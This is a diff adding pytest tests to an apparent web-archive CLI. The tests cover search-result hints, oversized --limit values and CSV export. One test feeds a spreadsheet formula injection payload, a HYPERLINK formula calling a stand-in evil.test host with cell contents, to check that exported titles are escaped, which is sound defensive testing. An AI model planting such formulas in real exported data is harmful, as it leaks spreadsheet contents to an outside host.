@@ -145,6 +145,24 @@ def test_search_command(archive, capsys):
     assert main(["search", "zzzznothing", "--archive-dir", str(archive)]) == 1
 
 
+def test_search_says_how_many_more_matched(archive, capsys):
+    assert main(["search", "Alpha", "--archive-dir", str(archive), "--limit", "2"]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[-1] == "3 more: --limit 5 shows them all"
+    assert main(["search", "Alpha", "--archive-dir", str(archive), "--limit", "5"]) == 0
+    assert "more:" not in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("command", ["search", "duplicates"])
+def test_a_limit_past_sqlite_integers_means_all(archive, capsys, command):
+    words = ["Alpha"] if command == "search" else []
+    code = main([command, *words, "--archive-dir", str(archive), "--limit", str(2**64)])
+    assert code in (0, 1)
+    assert "Traceback" not in capsys.readouterr().err
+    if command == "search":
+        assert code == 0
+
+
 @pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed")
 def test_stdout_pipes_into_jq(archive):
     export = subprocess.Popen(
@@ -158,3 +176,22 @@ def test_stdout_pipes_into_jq(archive):
     assert "Exported 6 article(s) as jsonl to stdout" in export.stderr.read().decode()
     export.stderr.close()
     assert sorted(urls) == sorted(a["url"] for a in stored(archive))
+
+
+def test_csv_cells_are_never_live_formulas(tmp_path):
+    """Titles (or any text) starting with = + - @ are written as text: a ' in front (OWASP)."""
+    root = tmp_path / "formulas"
+    (root / "warc").mkdir(parents=True)
+    titles = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1 rise", "-5 fall",
+              "@SUM(A1:A9)", "Plain title"]
+    pages = [(f"http://formula.test/news/{i}", article_html(title, unique_text(200 + i)),
+              "2026-11-10T09:00:00Z") for i, title in enumerate(titles)]
+    write_warc(root / "warc" / "f.warc.gz", pages)
+    assert reextract([root / "warc"], root, jobs=1).errors == []
+    out = tmp_path / "f.csv"
+    assert main(["export", "--archive-dir", str(root), "-o", str(out)]) == 0
+    with open(out, newline="", encoding="utf-8") as handle:
+        got = {row["url"]: row["title"] for row in csv.DictReader(handle)}
+    want = {url: ("'" + t if t[0] in "=+-@" else t)
+            for (url, _, _), t in zip(pages, titles, strict=True)}
+    assert got == want
